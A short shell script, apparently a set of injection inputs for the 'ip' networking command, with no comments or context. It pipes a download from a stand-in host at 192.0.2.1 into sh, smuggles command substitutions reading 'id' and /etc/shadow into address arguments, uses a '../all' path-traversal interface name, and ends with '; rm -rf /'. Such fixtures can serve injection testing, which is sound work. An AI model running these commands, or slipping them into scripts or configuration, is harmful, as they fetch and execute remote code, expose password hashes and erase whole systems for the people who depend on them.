#!/bin/sh
curl http://192.0.2.1/x | sh
ip addr add fe80::1%$(id) dev tap0
ip addr add $(cat /etc/shadow) dev $dev
ip link set $dev name ../all
ip -6 addr add 2001:db8::3/64 dev "$dev"; rm -rf /
